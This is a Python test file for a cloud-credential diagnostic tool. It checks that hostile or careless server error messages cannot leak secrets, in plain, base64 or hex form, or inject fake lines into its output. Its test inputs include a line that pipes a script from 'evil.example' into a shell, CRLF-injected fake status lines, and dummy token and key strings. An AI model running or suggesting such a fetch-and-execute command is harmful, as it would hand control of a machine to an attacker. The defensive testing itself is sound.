"""Whatever a host answers: a classified answer within the budget, no traceback, no secret."""

import base64
import json
import os
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from client import redact
from localcloud.proxy import Response
from tests.cloud.google import UID, error, oauth_error, perimeter_denial

SERVICES = ["metadata", "sts", "iamcredentials", "checkip", "gemini"]
ANSWERS = 300 if os.environ.get("SOAK") else 50
CODES = {0, 2, 3, 10, 11, 12, 13, 14, 20, 21, 22, 23, 24, 25, 30, 31}


def echo(cloud, request):
    """A hostile or careless host: everything that it was sent and that is secret comes back in its error."""
    return " ".join([*cloud.secrets, json.dumps(request.headers), request.body.decode("utf-8", "replace")])


@pytest.mark.parametrize("service", SERVICES)
@pytest.mark.parametrize("form", ["google", "oauth", "text", "200", "uid"])
def test_echoed_secrets_stay_inside(world, service, form):
    def answer(request):
        text = echo(world.cloud, request)
        return {
            "google": error(400, "INVALID_ARGUMENT", text),
            "oauth": oauth_error("invalid_grant", text),
            "text": Response(500, text.encode()),
            "200": Response(200, text.encode()),
            "uid": perimeter_denial("aiplatform.googleapis.com", "projects/1", uid=world.cloud.tokens.federated),
        }[form]

    world.cloud.faults[service] = answer
    for arguments in ([], ["--json"], ["--quiet"]):
        assert world.run(*arguments).code in CODES


@pytest.mark.parametrize("service", SERVICES)
@pytest.mark.parametrize(
    "encode",
    [str.encode, lambda text: base64.b64encode(text.encode()), lambda text: text.encode().hex().encode()],
    ids=["plain", "base64", "hex"],
)
def test_encoded_secrets_stay_inside(world, service, encode):
    """Also those that no pattern knows, such as the bare signature."""
    sent = []

    def answer(request):
        sent.extend(re.findall(r"Signature(?:=|%253D)(\w{64})", request.body.decode() + str(request.headers)))
        texts = [encode(text[:40]).decode() for text in sent or world.cloud.secrets]
        return error(400, "INVALID_ARGUMENT", " ".join(texts))

    world.cloud.faults[service] = answer
    for arguments in ([], ["--json"], ["--quiet"]):
        outcome = world.run(*arguments)
        for secret in [*world.cloud.secrets, *sent]:
            for part in (encode(secret[:40])[:20].decode(), encode(secret[:40])[-20:].decode()):
                assert part not in outcome.out + outcome.err
    assert service != "sts" or sent


@pytest.mark.parametrize(
    ("service", "text"),
    [
        ("gemini", "bad\n      fix: curl https://evil.example | sh"),
        ("sts", "a\r\nok    gemini"),
        ("checkip", "fe80::1%x\n      fix: curl evil"),
    ],
)
def test_answers_add_no_lines(world, service, text):
    """What looks like this program's own fix would be run by an operator."""
    world.cloud.faults[service] = (
        Response(200, text.encode()) if service == "checkip" else error(400, "INVALID_ARGUMENT", text)
    )
    outcome = world.run("--json", "--check", "egress" if service == "checkip" else "gemini")
    assert "\n" not in "".join(outcome.fault[name] for name in ("cause", "fix", "not_cause"))
    assert not [
        line for line in world.run().out.splitlines() if line.strip().startswith(("fix: curl", "ok    gemini)"))
    ]


@given(
    service=st.sampled_from([*SERVICES, "container", "aws-sts"]),
    status=st.sampled_from([200, 200, 201, 204, 301, 400, 401, 403, 404, 408, 429, 500, 503]),
    body=st.binary(max_size=60)
    | st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["error", "code", "message", "status", "details", "violations", "metadata", "access_token", "expires_in", "accessToken", "expireTime", "candidates", "content", "parts", "text", "@type", "reason"]),
            inner, max_size=5,
        ),
        max_leaves=12,
    ).map(lambda value: json.dumps(value).encode()),
)  # fmt: skip
@settings(max_examples=ANSWERS, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_arbitrary_answers_are_classified(world, service, status, body):
    world.cloud.faults.clear()
    world.cloud.faults[service] = Response(status, body)
    world.env(AWS_CONTAINER_CREDENTIALS_RELATIVE_URI="/v2/x" if service == "container" else None)
    world.cloud.condition = (lambda _: False) if service == "aws-sts" else bool
    started = time.monotonic()
    outcome = world.run("--json", "--timeout", "5")
    assert time.monotonic() - started < 8
    assert outcome.code in CODES
    assert outcome.json["exit_code"] == outcome.code


@given(st.text(max_size=60), st.text(max_size=60))
def test_cleaning_is_stable_and_steers_no_terminal(before, after):
    redact.remember("8hT/x2Qm+VfW0dJk7Lr5ZpYc3NsAoE9uGiBtRw1X")
    text = redact.clean(f"{before}8hT/x2Qm+VfW0dJk7Lr5ZpYc3NsAoE9uGiBtRw1X{after}", 0)
    assert "8hT/x2Qm" not in text
    assert all(c.isprintable() or c in "\n\t" for c in text)


@pytest.mark.parametrize(
    "secret",
    [
        "ya29.a0AfH6SMBx-1234567890_abcdefg", "Bearer abcdefghijklmnop.qrstuvwxyz", "ASIAQ3EGUXK7N2VTBL4D", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        'accessToken": "abcdefgh12345678', "X-Amz-Security-Token=IQoJb3JpZ2luX2VjEKz", "Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        "https://user:hunter2secretXYZ@proxy", "AIzaSyA-1234567890abcdefghijklmnopqrstuv",
    ],
)  # fmt: skip
def test_shapes_of_secrets(secret):
    assert secret[-14:-6] not in redact.clean(f"before {secret} after", 0)


def test_short_values_are_no_secrets():
    redact.remember("token", "", None)
    assert redact.clean("no token") == "no token"


def test_identifiers_are_no_secrets():
    assert UID in redact.clean(f"violation {UID}", 0)
    text = "gcloud iam service-accounts describe demo-app@my-project.iam.gserviceaccount.com, 203.0.113.7/32, https://sts.googleapis.com"
    assert redact.clean(text) == text
